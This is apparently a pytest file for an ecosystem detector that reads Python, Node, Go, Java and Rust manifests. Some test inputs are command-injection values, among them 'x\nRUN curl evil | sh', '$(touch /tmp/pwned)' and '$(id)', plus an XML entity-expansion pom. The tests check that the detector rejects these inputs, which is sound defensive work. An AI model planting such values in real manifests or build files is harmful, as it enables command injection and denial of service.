from __future__ import annotations

import json

import pytest

from fixer.transforms.ecosystems import detect
from fixer.transforms.ecosystems.base import valid_module, valid_name, valid_path, valid_port
from fixer.transforms.ecosystems.python import python_source_facts


def write(root, files: dict[str, str]):
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root


@pytest.mark.parametrize(
    "files, lang",
    [
        ({"requirements.txt": "flask\n"}, "python"),
        ({"pyproject.toml": "[project]\nname='x'\n"}, "python"),
        ({"Pipfile": ""}, "python"),
        ({"package.json": "{}"}, "node"),
        ({"go.mod": "module a/b\n"}, "go"),
        ({"pom.xml": "<project/>"}, "java"),
        ({"build.gradle.kts": ""}, "java"),
        ({"Cargo.toml": "[package]\nname='x'\n"}, "rust"),
        ({"README.md": ""}, None),
    ],
)
def test_detects_the_ecosystem_from_its_manifest(tmp_path, files, lang):
    assert detect(write(tmp_path, files)).lang == lang


def test_several_ecosystems_are_decided_by_the_base_image(tmp_path):
    write(tmp_path, {"requirements.txt": "", "package.json": "{}"})
    assert detect(tmp_path, "node:20").lang == "node"
    assert detect(tmp_path, "python:3.12").lang == "python"
    project = detect(tmp_path, "debian:12")
    assert project.lang is None and "several ecosystems" in project.problems[0]
    # the catalogue's ``ecosystem`` of the image, by its last name, whatever the registry
    write(tmp_path, {"pom.xml": "<project/>", "go.mod": "module x\n"})
    assert detect(tmp_path, "eclipse-temurin:21-jdk").lang == "java"
    assert detect(tmp_path, "registry.example.com/dockerhub/library/golang:1.22").lang == "go"


def test_setup_py_is_read_with_libcst_and_never_executed(tmp_path):
    marker = tmp_path / "executed"
    write(tmp_path, {"setup.py": f"""
import pathlib
pathlib.Path({str(marker)!r}).write_text("oops")
from setuptools import setup
setup(
    name="reporter",
    install_requires=["lxml>=5", "Click"],
    python_requires=">=3.10",
    entry_points={{"console_scripts": ["reporter = reporter.cli:main", "bad$(id) = x:y"]}},
)
"""})
    project = detect(tmp_path)
    assert not marker.exists()
    assert project.dependencies == ["lxml", "click"]
    assert project.python_requires == ">=3.10" and project.python_version == "3.10"
    assert project.scripts == {"reporter": "reporter.cli:main"}
    assert any("bad$(id)" in p for p in project.problems)


def test_pyproject_dependencies_and_scripts(tmp_path):
    write(tmp_path, {"pyproject.toml": """
[project]
name = "svc"
requires-python = ">=3.11"
dependencies = ["fastapi>=0.110", "uvicorn[standard]"]
[project.scripts]
svc = "svc.main:run"
"evil\\nRUN id" = "svc.main:run"
"""})
    project = detect(tmp_path)
    assert project.dependencies == ["fastapi", "uvicorn"]
    assert project.framework == "fastapi" and project.python_version == "3.11"
    assert project.scripts == {"svc": "svc.main:run"}


def test_python_source_facts_find_app_port_and_health_route():
    facts = python_source_facts(
        "from flask import Flask\napp = Flask(__name__)\n\n@app.get('/healthz')\ndef h():\n    return 'ok'\n\n"
        "if __name__ == '__main__':\n    app.run(host='0.0.0.0', port=8081)\n"
    )
    assert facts == {"app_object": "app", "framework": "flask", "port": 8081, "health_path": "/healthz", "main": True}
    assert python_source_facts("def (:") is None


def test_flask_app_module_is_found_in_the_context(tmp_path):
    write(tmp_path, {"requirements.txt": "flask\n", "app.py": "from flask import Flask\napp = Flask(__name__)\n"})
    project = detect(tmp_path)
    assert (project.app_module, project.app_object, project.framework) == ("app", "app", "flask")


def test_package_json_values_with_shell_syntax_are_rejected(tmp_path):
    write(tmp_path, {"package.json": json.dumps({
        "name": "x\nRUN curl evil | sh", "main": "$(touch /tmp/pwned).js",
        "scripts": {"build": "vite build"}, "devDependencies": {"vite": "5"},
    })})
    project = detect(tmp_path)
    assert project.name is None and project.app_module is None
    assert len(project.problems) == 2
    assert project.static_output == "dist" and project.framework == "vite"


def test_node_server_port_and_health(tmp_path):
    write(tmp_path, {
        "package.json": json.dumps({"name": "@acme/api", "main": "src/server.js", "dependencies": {"express": "4"}}),
        "package-lock.json": "{}",
        "src/server.js": "app.get('/health', h)\napp.listen(process.env.PORT || 3000)\n",
    })
    project = detect(tmp_path)
    assert (project.framework, project.port, project.health_path, project.lockfile) == ("express", 3000, "/health", "package-lock.json")
    assert project.static_output is None


def test_go_mod_module_and_cgo(tmp_path):
    write(tmp_path, {"go.mod": "module example.com/x/hello // comment\n\ngo 1.22.3\n", "main.go": "package main\n"})
    project = detect(tmp_path)
    assert (project.module, project.name, project.go_version, project.framework) == ("example.com/x/hello", "hello", "1.22", None)
    write(tmp_path, {"c.go": 'package main\n\nimport "C"\n'})
    assert detect(tmp_path).framework == "cgo"
    write(tmp_path, {"go.mod": "module `id`\n"})
    assert detect(tmp_path).module is None


def test_pom_xml_jar_and_java_version(tmp_path):
    write(tmp_path, {"pom.xml": """<?xml version="1.0"?>
<project xmlns="http://maven.apache.org/POM/4.0.0"><artifactId>orders</artifactId><version>1.2.0</version>
<properties><java.version>21</java.version></properties></project>"""})
    project = detect(tmp_path)
    assert (project.build_tool, project.jar, project.java_version) == ("maven", "target/orders-1.2.0.jar", "21")


def test_pom_xml_with_entities_is_not_read(tmp_path):
    write(tmp_path, {"pom.xml": """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>
<project><artifactId>&lol2;</artifactId><version>1</version></project>"""})
    project = detect(tmp_path)
    assert project.jar is None and "DTD" in project.problems[0]


def test_gradle_jar_name(tmp_path):
    write(tmp_path, {
        "build.gradle": "plugins { id 'java' }\nversion = '0.3.1'\njava { toolchain { languageVersion = JavaLanguageVersion.of(17) } }\n",
        "settings.gradle": "rootProject.name = 'billing'\n",
        "gradlew": "",
    })
    project = detect(tmp_path)
    assert (project.jar, project.java_version, project.wrapper) == ("build/libs/billing-0.3.1.jar", "17", True)


def test_cargo_binaries(tmp_path):
    write(tmp_path, {"Cargo.toml": '[package]\nname = "ferris"\n[[bin]]\nname = "srv"\n[[bin]]\nname = "a && b"\n'})
    project = detect(tmp_path)
    assert project.binaries == ["srv"] and "a && b" in project.problems[0]


@pytest.mark.parametrize("value", ["a\nb", "a && b", "$(id)", "`id`", "a b", "../x", "", None, "x;y"])
def test_validators_reject_shell_syntax(value):
    assert not valid_name(value) and not valid_module(value) and not valid_path(value)


def test_validators_accept_plain_values():
    assert valid_name("my-app_1.0") and valid_module("pkg.app") and valid_path("/opt/app/bin/x") and valid_path("target/a-1.0.jar")
    assert valid_port(8080) and not valid_port(0) and not valid_port(70000) and not valid_port("80") and not valid_port(True)
